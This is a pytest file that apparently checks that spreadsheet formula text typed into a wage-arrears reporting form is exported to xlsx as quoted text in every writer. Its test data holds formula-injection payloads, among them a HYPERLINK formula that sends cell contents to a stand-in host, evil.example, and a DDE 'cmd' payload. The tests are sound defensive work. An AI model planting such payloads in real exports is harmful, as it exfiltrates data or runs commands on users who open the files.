"""Issue 16, finding 4: text a spreadsheet would read as a formula reaches every xlsx export as text.

`=HYPERLINK(…)` typed into the public report's employer ends in the director's fund export and in the cases
export; each writer (openpyxl's write-only workbook, the template, the streaming writer) must write it as a
text cell with Excel's quote prefix, while numbers stay numbers.
"""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cases.models import PublicReport
from liudong_wages.excel import DECIMAL, Column, Sheet, looks_like_formula, template_workbook, write_workbook
from liudong_wages.excel_stream import stream_workbook

from ..factories import AdvanceApplicationFactory, CaseFactory

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
REPORT = {
    "reporter_name": "覃大力",
    "reporter_id_number": "450204199003071236",
    "reporter_phone": "13977200001",
    "employer_name": ATTACK,
    "project_name": "柳东新区某小区 3 号楼",
    "amount_owed": "12000",
    "period_start": "2026-07-01",
    "period_end": "2026-09-30",
    "worker_count": "3",
    "description": "完工后老板一直拖着不发。",
}


def _workbook_bytes(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _text_cells_holding(data: bytes, text: str) -> list:
    """Cells whose value is `text`, read in read-only mode (which keeps the stored cell type)."""
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    found = []
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            found += [cell for cell in row if getattr(cell, "value", None) == text]
    return found


def _assert_no_formula(data: bytes, text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in package.read(name) or b"<f " in package.read(name) for name in sheets)
    cells = _text_cells_holding(data, text)
    assert cells, "the text is missing from the workbook"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.style_array.quotePrefix or cell.quotePrefix  # stays text when the cell is edited


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1"]
)
def test_each_formula_start_is_recognised(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("value", ["柳州某劳务公司", "1+1", "a=b", 12, Decimal("-5.00"), -3, None])
def test_plain_text_and_numbers_are_not_formulas(value):
    assert not looks_like_formula(value)


@pytest.mark.parametrize("writer", ["write_only", "template", "stream"])
def test_every_writer_writes_formula_text_as_text_and_numbers_as_numbers(writer):
    columns = [Column("name", "名称"), Column("amount", "金额", DECIMAL)]
    rows = [{"name": ATTACK, "amount": Decimal("-12.50")}, {"name": "@SUM(1)", "amount": Decimal("3")}]
    out = io.BytesIO()
    if writer == "write_only":
        write_workbook([Sheet("表", columns, rows)], out)
    elif writer == "template":
        template_workbook(columns=columns, title="表", examples=rows).save(out)
    else:
        out.write(b"".join(stream_workbook([Sheet("表", columns, rows)])))
    data = out.getvalue()
    _assert_no_formula(data, ATTACK)
    _assert_no_formula(data, "@SUM(1)")
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    amounts = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert amounts == [-12.5, 3]


@pytest.fixture
def from_the_public_form(client, db, frozen):
    """A report whose employer is a formula, sent through the public form; the office opens its case."""
    frozen(dt.date(2026, 11, 2))
    response = client.post("/report/", REPORT)
    assert response.status_code == 200
    report = PublicReport.objects.get()
    assert report.employer_name == ATTACK
    case = CaseFactory(enterprise=None, respondent_name=report.employer_name)
    return case


def test_a_formula_typed_into_the_public_form_is_text_in_the_directors_fund_export(
    from_the_public_form, director, client
):
    AdvanceApplicationFactory(case=from_the_public_form)
    client.force_login(director)
    response = client.get("/funds/applications/export.xlsx")
    assert response.status_code == 200
    _assert_no_formula(_workbook_bytes(response), ATTACK)


def test_a_formula_typed_into_the_public_form_is_text_in_the_cases_export(
    from_the_public_form, director, client
):
    client.force_login(director)
    response = client.get("/cases/export.xlsx")
    assert response.status_code == 200
    _assert_no_formula(_workbook_bytes(response), ATTACK)
